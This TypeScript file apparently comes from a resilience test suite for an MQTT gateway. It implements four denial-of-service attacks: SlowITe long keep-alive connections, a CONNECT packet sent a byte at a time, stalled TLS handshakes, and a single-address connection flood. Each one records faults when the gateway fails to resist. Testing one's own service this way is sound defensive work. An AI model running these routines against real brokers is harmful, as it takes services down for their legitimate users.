// Slow and many over MQTT: SlowITe (an endless keep-alive and nothing else), a CONNECT that never ends, handshakes of TLS that never end,
// and connections as fast as they come.

import { setTimeout as sleep } from 'node:timers/promises'
import { connectPacket } from '../tools/raw-mqtt.ts'
import type { Attack } from './attack.ts'
import { dropAll, open, openMany, openOf, trickle, watchClosing } from './sockets.ts'

const connectMsMax = 5_000
const lateMs = 3_000

export const slowite: Attack = {
  name: 'slowite',
  about: 'SlowITe: connections with keep-alive 65,535 that say nothing more (Vaccari et al. 2020)',
  counts: { test: 200, full: 6_000 },
  async run({ mqtt, count, seconds }) {
    let n = 0
    const held = await openMany(count, () => {
      const one = open(mqtt)
      one.socket.write(connectPacket({ clientId: `slowite-${n++}`, version: 5, keepAlive: 65_535 }))
      return one
    })
    await sleep(seconds * 1_000)
    const letIn = held.filter(
      ({ received, closedMs }) => received[0] === 0x20 && received[3] === 0 && closedMs === undefined,
    )
    // MQTT 5 §3.2.2.3.14: Server Keep Alive, 3,600 seconds.
    const clamped = letIn.filter(({ received }) => received.includes(Buffer.of(0x13, 0x0e, 0x10)))
    const left = openOf(held)
    dropAll(held)
    return {
      text: `${count} opened, ${left} of them left; the gateway told ${clamped.length} of ${letIn.length} a keep-alive of 3,600 s`,
      faults: [
        ...(clamped.length < letIn.length ? ['a keep-alive of 65,535 s was granted'] : []),
        ...(left > 5_000 ? [`${left} connections from one address, above 5,000`] : []),
      ],
    }
  },
}

export const trickledConnect: Attack = {
  name: 'mqtt-trickle',
  about: 'a CONNECT byte by byte, a byte each 250 ms',
  counts: { test: 50, full: 1_000 },
  async run({ mqtt, count }) {
    const packet = connectPacket({ clientId: 'x'.repeat(200) })
    const held = await openMany(count, () => open(mqtt))
    await trickle(held, (step) => packet.subarray(step, step + 1), 250, connectMsMax + lateMs)
    const { left, longestMs } = await watchClosing(held, lateMs)
    dropAll(held)
    return {
      text: `${count} sockets, the last closed after ${(longestMs / 1_000).toFixed(1)} s`,
      faults: left > 0 ? [`${left} still open`] : [],
    }
  },
}

export const halfHandshakes: Attack = {
  name: 'tls-half-open',
  about: 'TLS handshakes that stop after the first bytes',
  counts: { test: 50, full: 1_000 },
  async run({ mqtts, count }) {
    // A record of 512 bytes is announced, of which five come (RFC 8446 §5.1).
    const beginning = Buffer.of(0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3)
    const held = await openMany(count, () => {
      const one = open(mqtts)
      one.socket.write(beginning)
      return one
    })
    const { left, longestMs } = await watchClosing(held, connectMsMax + lateMs)
    dropAll(held)
    return {
      text: `${count} sockets, the last closed after ${(longestMs / 1_000).toFixed(1)} s`,
      faults: left > 0 ? [`${left} still open`] : [],
    }
  },
}

export const connectFlood: Attack = {
  name: 'mqtt-connects',
  about: 'connections from one address as fast as they are opened, while others come from elsewhere',
  counts: { test: 2_500, full: 8_000 },
  async run({ mqtt, count }) {
    const until = performance.now() + 60_000
    let opened = 0
    let turnedAway = 0
    let others = 0
    let othersLetIn = 0
    let isOver = false
    const flood = (async () => {
      while (opened < count && performance.now() < until) {
        const group = await openMany(
          100,
          () => {
            const one = open(mqtt)
            one.socket.write(connectPacket({ clientId: `flood-${opened++}` }))
            return one
          },
          100,
        )
        await sleep(2)
        turnedAway += group.filter(({ received }) => received.length === 0).length
        dropAll(group)
      }
      isOver = true
    })()
    while (!isOver) {
      const one = open(mqtt, '127.0.0.77')
      one.socket.write(connectPacket({ clientId: `other-${others++}` }))
      for (let ms = 0; ms < 3_000 && one.received.length === 0 && one.closedMs === undefined; ms += 10) await sleep(10)
      if (one.received[0] === 0x20) othersLetIn++
      one.socket.destroy()
    }
    await flood
    return {
      text: `${opened} opened, ${turnedAway} without an answer; of somebody else's ${others}, ${othersLetIn} were let in`,
      faults: othersLetIn < others * 0.9 ? [`somebody else was let in ${othersLetIn} times of ${others}`] : [],
    }
  },
}
